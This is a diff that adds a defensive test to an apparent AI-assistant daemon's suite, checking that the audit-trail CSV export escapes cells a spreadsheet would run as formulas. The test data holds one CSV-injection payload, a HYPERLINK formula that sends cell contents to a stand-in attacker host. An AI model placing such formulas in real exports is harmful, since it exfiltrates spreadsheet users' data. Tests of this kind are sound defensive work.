@@ -958,3 +958,36 @@ def test_every_answer_carries_the_servers_own_time(d: BrainDaemon) -> None:
         assert _sign_in(d, c, d.token).status_code == 303
         shown = c.get("/brain/approvals")
         assert shown.status_code == 200 and took(shown) >= 0
+
+
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(d: BrainDaemon) -> None:
+    """Issue 30: model-written text starting with =, +, -, @ was written as a formula."""
+    import csv
+    import io
+
+    book = Trail(d.rt.db_path)
+    try:
+        rec = book.record_for(
+            call_id="formula-1",
+            turn_id="t1",
+            conversation_id="c-formula",
+            channel="chat",
+            tool="clock",
+            permission="clock",
+            params='{"zone": "UTC"}',
+            act_summary='=HYPERLINK("http://evil.example/?"&A1,"click")',
+            principal="local",
+        )
+        book.finish(
+            rec, status="success", code=None, decision="allow", decided_by="policy", started=False
+        )
+    finally:
+        book.close()
+    with d.client() as c:
+        text = c.get(
+            "/api/v1/trail/export", params={"conversation": "c-formula", "format": "csv"}
+        ).text
+    head, row = list(csv.reader(io.StringIO(text)))
+    summary = row[head.index("act_summary")]
+    assert summary == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
